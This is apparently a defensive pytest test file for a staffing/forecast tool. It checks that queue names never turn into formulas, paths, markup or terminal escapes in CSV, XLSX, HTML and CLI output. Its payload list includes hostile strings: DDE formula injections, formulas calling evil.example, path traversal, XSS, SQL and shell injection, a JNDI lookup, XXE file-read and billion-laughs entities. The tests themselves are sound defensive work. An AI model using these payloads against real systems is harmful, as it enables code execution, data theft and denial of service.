"""Names that mean harm: to spreadsheets, paths, pages and terminals."""

import csv
import io
import re
import shutil
import subprocess
import zipfile

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forecast.errors import ConfigError, TableError
from forecast.schema import ABSENCES, AGENTS, REQUESTS
from forecast.tables import Form, csv_bytes, read_text_table
from staffing.config import read_config
from staffing.config.read import toml_table
from staffing.importing import Declared, import_export
from staffing.pipeline import plan_month
from staffing.report.folder import write_plan
from staffing.roster.table import read_roster
from staffing.roster.team_file import TeamFile
from staffing.scenario.changes import read_scenarios

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    '@SUM(1+9)*cmd|"/C calc"!A0',
    " =1+1",
    "'=1+1",
    "''=1+1",
    "=1+1;=2+2",
    "=1+1,=2+2",
    '"=1+1',
    '=IMPORTXML("http://evil.example/"&A1,"//a")',
    '=WEBSERVICE("http://evil.example")',
    "=DDE(1,2,3)",
    "=A1",
    "=SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "{=1+1}",
    "%0A=1+1",
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/cron.d/x",
    "C:\\x",
    "CON",
    "NUL",
    "a" * 300,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "x'); DROP TABLE plans;--",
    "$(reboot)",
    "`reboot`",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "$\\alpha$",
]
LIVE = re.compile(r"\s*[=+\-@＝＋－＠]")
NAMES = st.text(
    st.characters(exclude_categories=["Cc", "Cf", "Cs", "Zl", "Zp"]), min_size=1
).map(str.strip)
HARMFUL = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(str.__add__, st.sampled_from("=+-@'\"; ,＝"), NAMES),
    NAMES,
).filter(lambda name: name.strip() == name != "")


def check_names(names, place):
    """No cell of the CSV is live, and it is read as it was."""
    data = csv_bytes(pd.DataFrame({"queue": names, "net": [-1.5] * len(names)}))
    rows = list(csv.reader(io.StringIO(data.decode())))[1:]
    assert not [name for name, _ in rows if LIVE.match(name)]
    assert {number for _, number in rows} == {"-1.5"}
    path = place / "names.csv"
    path.write_bytes(data)
    read, findings = read_text_table(path, Form(separator=","))
    assert findings == []
    assert read["queue"].tolist() == names


@given(names=st.lists(HARMFUL, min_size=1, max_size=20))
@settings(max_examples=50)
def test_no_name_is_a_formula_in_a_csv_and_each_is_read_as_it_was(
    names, tmp_path_factory
):
    check_names(names, tmp_path_factory.getbasetemp())


@pytest.mark.soak
@given(names=st.lists(HARMFUL, min_size=20, max_size=20))
@settings(max_examples=500)
def test_none_of_10000_names_is_a_formula(names, tmp_path_factory):
    check_names(names, tmp_path_factory.getbasetemp())


def plan_of(names, centre, folder):
    plan = plan_month(centre(calls=dict.fromkeys(names, 20.0)))
    write_plan(plan, folder)
    return plan


def test_a_plan_for_harmful_names_is_a_plan(centre, tmp_path, quick_pictures):
    names = [name for name in PAYLOADS if name.strip() == name][::4]
    before = set(tmp_path.rglob("*"))
    plan_of(names, centre, tmp_path / "out")
    made = set(tmp_path.rglob("*")) - before
    places = {path.parent for path in made} - {tmp_path, tmp_path / "out"}
    assert places == set()
    table, _ = read_text_table(tmp_path / "out" / "staffing.csv", Form(separator=","))
    assert set(table["queue"]) == set(names)
    page = (tmp_path / "out" / "report.html").read_text()
    assert "<script>alert" not in page
    assert "<img src=x" not in page


@pytest.mark.soak
@pytest.mark.skipif(not shutil.which("soffice"), reason="there is no LibreOffice")
def test_libreoffice_finds_no_formula_in_a_plan(centre, tmp_path):
    names = [name for name in PAYLOADS if name.strip() == name and name[0] != "'"]
    plan_of(names, centre, tmp_path / "out")
    for name in ("staffing.csv", "forecast.csv", "monthly.csv"):
        subprocess.run(
            [
                *("soffice", "--headless", "--convert-to", "fods"),
                *("--outdir", tmp_path, tmp_path / "out" / name),
            ],
            check=True,
            capture_output=True,
        )
        text = (tmp_path / name).with_suffix(".fods").read_text()
        assert "table:formula" not in text
        assert "office:value-type=" in text


def test_a_workbook_holds_no_formula(centre, tmp_path, quick_pictures):
    from staffing.exporting import export_forecast

    names = [name for name in PAYLOADS if name.strip() == name][::6]
    plan_of(names, centre, tmp_path / "out")
    data = export_forecast(tmp_path / "out", "xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if "sheets/" in name]
        assert sheets
        assert not [name for name in sheets if b"<f>" in book.read(name)]


@pytest.mark.parametrize("sign", ["\x1b[31m", "\x00", "\x07", "\u202e", "\u200b"])
def test_signs_that_are_not_seen_are_refused_with_their_rows(sign, centre):
    path = centre(calls={"Sales": 20.0, f"S{sign}ales": 20.0})
    if sign == "\x00":  # such a file is not even text
        with pytest.raises(TableError, match="must be text"):
            plan_month(path)
        return
    with pytest.raises(TableError) as caught:
        plan_month(path)
    assert str(caught.value).startswith(
        "history.csv: queue must have no control characters nor direction marks, but "
        f"has: row 262 ({f'S{sign}ales'!r}); row 263 ("
    )


TEAM_FILES = {
    "agents.csv": (AGENTS, "agent_id,contract,groups\n{},PT,Sales\n"),
    "absences.csv": (ABSENCES, "agent_id,date,kind\nA1,2026-03-02,{}\n"),
    "requests.csv": (REQUESTS, "agent_id,date,wish\n{},2026-03-02,off\n"),
}


@pytest.mark.parametrize("name", TEAM_FILES)
@pytest.mark.parametrize("sign", ["\x1b[31m", "\u202e", "\u200b"])
def test_a_team_file_has_no_such_signs(name, sign, tmp_path):
    table, text = TEAM_FILES[name]
    (tmp_path / name).write_text(text.format(f"x{sign}y"))
    column = "kind" if table is ABSENCES else "agent_id"
    found = TeamFile.read(tmp_path / name, Form(), table).findings
    assert [str(finding) for finding in found] == [
        f"{name}: {column} must have no control characters nor direction marks, but "
        f"has: row 2 ({f'x{sign}y'!r}). Take them out."
    ]


@pytest.mark.parametrize("name", ["agent_id", "contract", "group", "activity"])
def test_a_roster_file_has_no_such_signs(name, tmp_path):
    cells = {
        "agent_id": "A1",
        "start": "2026-03-02T09:00",
        "end": "2026-03-02T11:00",
        "date": "2026-03-02",
        "breaks": "",
        "paid_min": "120",
        "contract": "PT",
        "group": "Sales",
        "activity": "contacts",
        name: "x\u202ey",
    }
    path = tmp_path / "roster.csv"
    path.write_text(",".join(cells) + "\n" + ",".join(cells.values()) + "\n")
    with pytest.raises(TableError) as caught:
        read_roster(path, "Europe/Rome")
    assert str(caught.value) == (
        f"roster.csv: {name} must have no control characters nor direction marks, but "
        "has: row 2 ('x\\u202ey'). Take them out."
    )


def test_a_queue_log_has_no_such_signs(tmp_path):
    log = "1772438400|1|{0}|NONE|ENTERQUEUE||1\n1772438420|1|{0}|A|CONNECT|20\n"
    (tmp_path / "queue_log").write_text(log.format("Sa\u202eles"))
    with pytest.raises(TableError) as caught:
        import_export(tmp_path / "queue_log", Declared("queue-log"))
    assert str(caught.value) == (
        "queue_log: queue must have no control characters nor direction marks, but "
        "has: row 1 ('Sa\\u202eles'). Take them out."
    )


TOML = {
    '[groups]\n"A\\u202eB" = ["Sales"]\n': ("groups.A\u202eB", "A\u202eB"),
    '[groups]\nG = ["A", "B\\u001b"]\n': ("groups.G.1", "B\x1b"),
    '[clients]\n"a\\u0000" = ["Sales"]\n': ("clients.a\0", "a\0"),
    '[targets]\nprofile = "\\u200bx"\n': ("targets.profile", "\u200bx"),
}


@pytest.mark.parametrize("text", TOML)
def test_a_configuration_has_no_such_signs(text, centre):
    path = centre()
    path.write_text(whole := path.read_text() + text)
    key, value = TOML[text]
    with pytest.raises(ConfigError) as caught:
        read_config(path)
    assert str(caught.value) == (
        f"plan.toml, line {len(whole.splitlines())}: {key}: {value!r} has control "
        "characters or direction marks. Take them out."
    )


def test_a_text_of_many_lines_is_no_such_sign(tmp_path):
    (tmp_path / "x.toml").write_bytes(b'a = """\r\n\tone\r\n\ttwo"""\nb = "\\t"\n')
    assert toml_table(tmp_path / "x.toml")[0] == {"a": "\tone\n\ttwo", "b": "\t"}


def test_a_scenario_has_no_such_signs(tmp_path):
    (tmp_path / "s.toml").write_text('["a\\u001b[2J"]\nset = ["volume=+10%"]\n')
    with pytest.raises(ConfigError) as caught:
        read_scenarios(tmp_path / "s.toml")
    assert str(caught.value) == (
        "s.toml, line 1: a\x1b[2J: 'a\\x1b[2J' has control characters or direction "
        "marks. Take them out."
    )


def test_what_is_said_of_such_signs_does_not_drive_the_terminal(
    staffcast_here, tmp_path
):
    """A column's name, a sheet's, a file's: whatever an error quotes."""
    path = tmp_path / "x\x1b[2J\u202e.csv"
    path.write_text("queue\x07,interval_start\nSales,2026-03-02T09:00Z\n")
    for form in ("text", "json"):
        run = staffcast_here("--log-format", form, "check", path)
        assert run.code == 3
        assert not set("\x1b\x07\u202e") & set(run.out + run.err)
        assert r"\x1b[2J\u202e.csv: " in run.err.replace(r"\\", "\\")


def test_a_table_for_people_does_not_drive_the_terminal(staffcast_here, tmp_path):
    """That of a store, which others may have filled, has any period at all."""
    (tmp_path / "run.json").write_text('{"outputs": {}, "month": "\\u001b[2J\\u202e"}')
    store = "--store", tmp_path / "plans.db"
    kept = staffcast_here("plans", "keep", tmp_path, *store)
    shown = staffcast_here("plans", "list", *store)
    exact = staffcast_here("plans", "list", *store, "--format", "csv")
    assert (kept.code, shown.code) == (0, 0)
    assert not set("\x1b\u202e") & set(kept.err + shown.out)
    assert r"\x1b[2J\u202e" in shown.out
    assert "\x1b[2J\u202e" in exact.out  # for programs


def test_a_file_whose_name_is_no_text_is_refused_by_name(staffcast_here, tmp_path):
    path = tmp_path / "x\udcff.csv"
    path.write_text("queue,interval_start,offered\nSales,2026-03-02T09:00Z,1\n")
    run = staffcast_here("check", path)
    assert (run.code, run.err) == (
        3,
        r"error: x\udcff.csv: the file cannot be read (Its name is not UTF-8). "
        rf"Looked for it at {tmp_path}/x\udcff.csv." + "\n",
    )


LAUGHS = "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">'
    for before, name in zip("abcdefgh", "bcdefghj", strict=True)
)
ENTITIES = {
    "a file": '<!ENTITY j SYSTEM "file:///etc/hostname">',
    "a billion laughs": f'<!ENTITY a "ha!ha!ha!ha!">{LAUGHS}',
}


@pytest.mark.parametrize("entities", ENTITIES.values(), ids=ENTITIES)
def test_a_workbook_s_entities_are_not_followed(entities, tmp_path):
    plain, path = tmp_path / "plain.xlsx", tmp_path / "x.xlsx"
    pd.DataFrame({"queue": ["Sales"]}).to_excel(plain, index=False)
    with zipfile.ZipFile(plain) as book, zipfile.ZipFile(path, "w") as made:
        for name in book.namelist():
            part = book.read(name).decode()
            if "Sales" in part:
                part = re.sub(r"^<\?xml[^>]*\?>", "", part).replace("Sales", "&j;")
                part = f"<!DOCTYPE x [{entities}]>{part}"
            made.writestr(name, part)
    with pytest.raises(TableError) as caught:
        read_text_table(path, Form())
    assert str(caught.value) == (
        "x.xlsx: the file is not readable as a workbook (ParseError). Save it again as "
        "XLSX, or as CSV."
    )
